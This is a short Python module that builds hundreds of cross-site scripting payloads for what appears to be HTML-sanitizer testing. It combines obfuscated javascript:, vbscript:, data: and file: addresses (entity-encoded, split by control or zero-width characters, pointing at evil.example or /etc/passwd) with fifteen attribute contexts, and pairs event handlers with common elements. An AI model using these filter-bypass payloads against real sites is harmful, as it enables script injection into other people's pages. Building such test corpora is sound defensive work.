"""Hostile HTML by the hundred: every way to write a program's address, in every place that takes one."""

from itertools import product

# Addresses that are programs or documents, and are none to a reader who looks for "javascript:".
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "javascript&#0000058alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)",
    "java\tscript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java\nscript:alert(1)",
    "java&#13;script:alert(1)",
    "java\x00script:alert(1)",
    " \x01\x0e javascript:alert(1)",
    "&#1;javascript:alert(1)",
    "\u2028javascript:alert(1)",
    "javascript\u200b:alert(1)",
    "vbscript:msgbox(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "http:evil.example",
    "https:\\\\evil.example",
]
# Places that take an address.
PLACES = [
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    '<a xlink:href="{}">x</a>',
    '<area href="{}">',
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<form action="{}"><button>x</button></form>',
    '<button formaction="{}">x</button>',
    '<video poster="{}"></video>',
    '<body background="{}">',
    '<svg><a href="{}"><text>x</text></a></svg>',
    '<math href="{}">x</math>',
    '<q cite="{}">x</q>',
]
ADDRESSED = [place.format(address) for place, address in product(PLACES, ADDRESSES)]

# What runs by itself, in elements that are allowed and in some that are not.
_EVENTS = (
    "onclick ondblclick onerror onload onfocus onmouseover onpointerenter onanimationstart ontoggle".split()
)
_ELEMENTS = "a abbr b blockquote code em li p pre q strong div img svg details".split()
HANDLED = [f"<{element} {event}=alert(1)>x</{element}>" for element, event in product(_ELEMENTS, _EVENTS)]
